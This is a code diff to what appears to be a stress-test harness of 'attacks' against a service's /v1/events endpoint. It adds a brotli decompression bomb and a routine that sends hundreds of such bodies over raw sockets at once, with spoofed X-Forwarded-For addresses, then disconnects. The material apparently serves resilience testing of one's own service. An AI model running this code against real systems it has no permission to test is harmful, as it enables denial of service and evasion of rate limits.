@@ -1,5 +1,7 @@
 import { Agent, request } from 'node:http';
-import { gzipSync } from 'node:zlib';
+import { connect } from 'node:net';
+import { setTimeout as sleep } from 'node:timers/promises';
+import { brotliCompressSync, gzipSync } from 'node:zlib';
 import type { Attack, Target } from './attack.ts';
 
 const CONNECTIONS = 100;
@@ -57,6 +59,57 @@ function send(target: Target, agent: Agent, body: Buffer, signal: AbortSignal): 
   });
 }
 
+/** 43 bytes that a decoder needs 4 MB for before it knows that they are 5 MB. */
+export const createBrotliBomb = (): Buffer =>
+  brotliCompressSync(Buffer.from(`{"events":[],"x":"${'a'.repeat(BYTES)}"}`));
+
+/** How many are sent in a burst, and how long their senders stay: some wait for the answer, others are gone. */
+export type Burst = { count: number; stayMs: number; addressOf?: (index: number) => string };
+
+/** Sends the last byte of many brotli bodies together, then disconnects. Returns how many were answered. */
+export async function sendBurst(
+  { url, clientKey }: Pick<Target, 'url' | 'clientKey'>,
+  { count, stayMs, addressOf = (index) => `203.0.113.${index % 250}` }: Burst,
+): Promise<number> {
+  const bomb = createBrotliBomb();
+  const { hostname, port, host } = new URL(url);
+  let answered = 0;
+  const sockets = Array.from({ length: count }, (_, index) => {
+    const socket = connect({ host: hostname, port: Number(port) });
+    socket.on('error', () => undefined);
+    socket.once('data', () => {
+      answered += 1;
+    });
+    const head = [
+      'POST /v1/events HTTP/1.1',
+      `Host: ${host}`,
+      `X-Forwarded-For: ${addressOf(index)}`,
+      `Authorization: Bearer ${clientKey}`,
+      'Content-Type: application/json',
+      'Content-Encoding: br',
+      `Content-Length: ${bomb.length}`,
+    ];
+    socket.write(`${head.join('\r\n')}\r\n\r\n`);
+    socket.write(bomb.subarray(0, -1));
+    return socket;
+  });
+  await sleep(500);
+  for (const socket of sockets) socket.write(bomb.subarray(-1));
+  await sleep(stayMs);
+  for (const socket of sockets) socket.destroy();
+  return answered;
+}
+
+const BURST = 400;
+
+/** Bursts of brotli bombs, by turns from senders that wait for an answer and from ones that disconnect. */
+async function sendBursts(target: Target, signal: AbortSignal): Promise<number> {
+  let answered = 0;
+  for (let round = 0; !signal.aborted; round += 1)
+    answered += await sendBurst(target, { count: BURST, stayMs: round % 2 === 0 ? 50 : 3_000 });
+  return answered;
+}
+
 /** Small compressed bodies that cost as much as a body can, from many connections of one address. */
 export const eventBombs: Attack = {
   name: 'event bombs',
@@ -74,9 +127,11 @@ export const eventBombs: Attack = {
         if (answer === 'closed') await new Promise((resolve) => setTimeout(resolve, 100));
       }
     };
-    await Promise.all(Array.from({ length: CONNECTIONS }, sendMany));
+    const many = Promise.all(Array.from({ length: CONNECTIONS }, sendMany));
+    const answered = await sendBursts(target, signal);
+    await many;
     agent.destroy();
     const statuses = [...answers].map(([answer, count]) => `${answer}: ${count}`).join(', ');
-    return `event bombs on ${CONNECTIONS} connections: ${statuses}`;
+    return `event bombs on ${CONNECTIONS} connections: ${statuses}; bursts of brotli: ${answered} answered`;
   },
 };
